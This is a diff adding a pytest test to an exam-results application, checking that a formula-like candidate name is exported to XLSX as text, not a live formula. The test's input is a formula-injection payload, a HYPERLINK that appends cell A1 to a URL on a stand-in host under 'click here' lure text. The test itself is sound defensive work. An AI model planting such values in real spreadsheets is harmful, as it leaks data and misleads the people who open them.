@@ -87,6 +87,23 @@ def test_reports_progress_and_competence_profile(app, client, bank, make_user, m
     assert client.get("/api/v1/reports/progress?year=1900", headers=admin).status_code == 422
 
 
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(app, client, bank, make_user, make_session,
+                                                                auth_headers, sit_exam):
+    """A candidate named "=HYPERLINK(…)" must not become a live formula in HR's spreadsheet."""
+    import zipfile
+
+    app.test_cli_runner().invoke(args=["units", "load"])
+    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
+    person = make_user("candidate", unit_code="BTR-BATRI", full_name=hostile)
+    sit_exam(person, make_session([person]).id)
+    manager = auth_headers(make_user("unit_manager", unit_code="BTR-BATRI"))
+    export = client.get("/api/v1/units/BTR-BATRI/results?format=xlsx", headers=manager)
+    cell = openpyxl.load_workbook(io.BytesIO(export.data)).active["A3"]
+    assert cell.value == hostile and cell.data_type == "s"
+    sheet_xml = zipfile.ZipFile(io.BytesIO(export.data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
+
+
 def test_who_manages_which_units(app, make_user):
     """One rule for the unit-manager scope: the manager's unit and the units below it; admins everywhere."""
     from sqlalchemy import select
